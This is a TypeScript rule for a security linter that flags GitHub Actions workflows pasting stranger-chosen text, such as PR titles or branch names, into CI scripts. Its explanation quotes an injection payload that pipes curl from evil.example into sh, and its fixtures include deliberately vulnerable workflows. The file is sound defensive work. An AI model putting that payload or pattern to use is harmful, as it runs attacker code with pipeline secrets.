import { bad, defineRule, good } from '../../src/rule/rule.ts';

const job = (step: string, on = 'pull_request_target'): string =>
  `on: ${on}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${step}`;

/** Text of the event that whoever opens an issue, a pull request or a branch chooses freely. */
const CHOSEN_BY_STRANGERS =
  /\$\{\{[^}]*\b(github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|pages\.[^}]*page_name|commits\.[^}]*(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|head_commit\.message|pull_requests\.[^}]*head\.ref))|github\.head_ref)\b/;

export default defineRule({
  id: 'dependencies/ci-expression-injection',
  ensures: 'No text that strangers choose is pasted into a script of CI.',
  severity: 'high',
  roles: ['any'],
  cwe: 94,
  owasp: 'A05',
  why: 'GitHub pastes the text into the script before the shell reads it. A pull request named `"; curl evil.example | sh #` runs as code, with the secrets of the job.',
  fix: 'Hand the text over as a variable: `env: TITLE: ${{ github.event.issue.title }}`, and write `"$TITLE"` in the script.',
  references: [
    'https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks',
  ],
  needs: ['workflows'],
  *check({ workflows }) {
    for (const { jobs, triggers } of workflows.github) {
      // a pull request from a fork has no secrets, and a token that may only read
      const harmless = triggers.every(({ name }) => name === 'pull_request');
      for (const { script } of jobs.flatMap(({ steps }) => steps)) {
        const [, text] = CHOSEN_BY_STRANGERS.exec(script?.text ?? '') ?? [];
        if (!script || text === undefined) continue;
        yield {
          at: script.at,
          message: `${text} is pasted into a script before it runs.`,
          ...(harmless && { severity: 'medium' as const }),
        };
      }
    }
  },
  examples: [
    bad('The title of a pull request', {
      '.github/workflows/greet.yml': job('      - run: «echo "Hello ${{ github.event.pull_request.title }}"»\n'),
    }),
    bad('The name of a branch, in a longer script', {
      '.github/workflows/ci.yml': job(
        '      - «run»: |\n          git fetch\n          git checkout ${{ github.head_ref }}\n',
        'pull_request',
      ),
    }),
    bad('In a script of another language', {
      '.github/workflows/label.yml': job(
        '      - uses: actions/github-script@v7\n        with:\n          script: «console.log("${{ github.event.issue.body }}")»\n',
        'issues',
      ),
    }),
    good('Handed over as a variable', {
      '.github/workflows/greet.yml': job(
        '      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo "$TITLE"\n',
      ),
    }),
    good('Numbers, hashes and names of our own', {
      '.github/workflows/ci.yml': job(
        '      - run: echo ${{ github.event.pull_request.number }} ${{ github.sha }} ${{ github.event.pull_request.head.sha }}\n      - if: contains(github.event.issue.title, "x")\n        run: echo\n',
      ),
    }),
  ],
});
